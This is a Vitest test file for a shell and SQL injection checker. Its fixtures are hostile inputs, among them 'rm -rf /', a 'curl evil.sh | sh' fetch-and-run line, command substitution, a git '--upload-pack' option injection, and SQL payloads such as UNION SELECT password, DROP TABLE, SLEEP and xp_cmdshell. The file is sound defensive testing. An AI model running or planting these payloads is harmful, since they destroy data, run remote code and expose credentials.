import { describe, expect, it } from 'vitest';
import { checkInjection, checkShellInjection, checkSqlInjection } from './injection.js';

describe('checkShellInjection', () => {
  it.each([
    ['main; rm -rf /', 'a command separator or pipe'],
    ['x && curl evil.sh | sh', 'a command separator or pipe'],
    ['$(curl evil)', 'a command substitution'],
    ['`id`', 'a command substitution'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal ${IFS} is the attack being tested.
    ['${IFS}cat', 'a parameter expansion'],
    ['$HOME/x', 'a parameter expansion'],
    ['a > /etc/passwd', 'a redirection'],
    ['a < /dev/zero', 'a redirection'],
    ['fix\nrm -rf /', 'a line break'],
    ['a\0b', 'a NUL byte'],
  ])('flags %j as %s', (value, why) => {
    const finding = checkShellInjection(value, { inputName: 'branch' });
    expect(finding).toMatchObject({ ruleId: 'injection/shell', severity: 'high', category: 'injection' });
    expect(finding?.message).toBe(`Input 'branch' contains ${finding?.message.split(' contains ')[1]}`);
    expect(finding?.message).toContain(why);
    expect(finding?.help).toContain('execFile with an argument array');
  });

  it('flags a leading dash (option injection) as medium', () => {
    expect(checkShellInjection('--upload-pack=evil')).toMatchObject({
      severity: 'medium',
      message:
        'Value contains a leading "-", which a command would read as an option; it would be unsafe in a shell command.',
    });
  });

  it.each(['main', 'feature/add-login', 'v1.2.3', 'Fix the bug (again)', "O'Brien", 'a-b_c.d', 'user@example.com'])(
    'passes the harmless %j',
    (value) => {
      expect(checkShellInjection(value)).toBeNull();
    },
  );
});

describe('checkSqlInjection', () => {
  it.each([
    ["' OR '1'='1", 'a quote followed by a boolean condition'],
    ["admin' --", 'a quote closed into a comment'],
    ['1 OR 1=1', 'an always-true condition'],
    ['x UNION ALL SELECT password FROM users', 'a UNION SELECT'],
    ['1; DROP TABLE users', 'a stacked query'],
    ['drop table users', 'a DROP or TRUNCATE statement'],
    ["1' AND SLEEP(5)", 'a time-delay function'],
    ["'; WAITFOR DELAY '0:0:5'--", 'a time-delay function'],
    ["1; exec xp_cmdshell 'dir'", 'a stacked query'],
    ['x xp_cmdshell', 'a command or file-access function'],
    ['a/**/b', 'an inline comment'],
  ])('flags %j as %s', (value, why) => {
    const finding = checkSqlInjection(value);
    expect(finding).toMatchObject({ ruleId: 'injection/sql', severity: 'high', category: 'injection' });
    expect(finding?.message).toContain(why);
    expect(finding?.message).toContain('it would be unsafe in an SQL statement');
    expect(finding?.help).toContain('parameterized queries');
  });

  it.each(["O'Brien", 'Select the best option', 'drop-down menu', 'update README', 'users-table', 'a - b'])(
    'passes the harmless %j',
    (value) => {
      expect(checkSqlInjection(value)).toBeNull();
    },
  );
});

describe('checkInjection', () => {
  it('returns the findings of both checks', () => {
    expect(checkInjection('1; DROP TABLE users').map((f) => f.ruleId)).toEqual(['injection/shell', 'injection/sql']);
    expect(checkInjection('plain-value')).toEqual([]);
  });
});
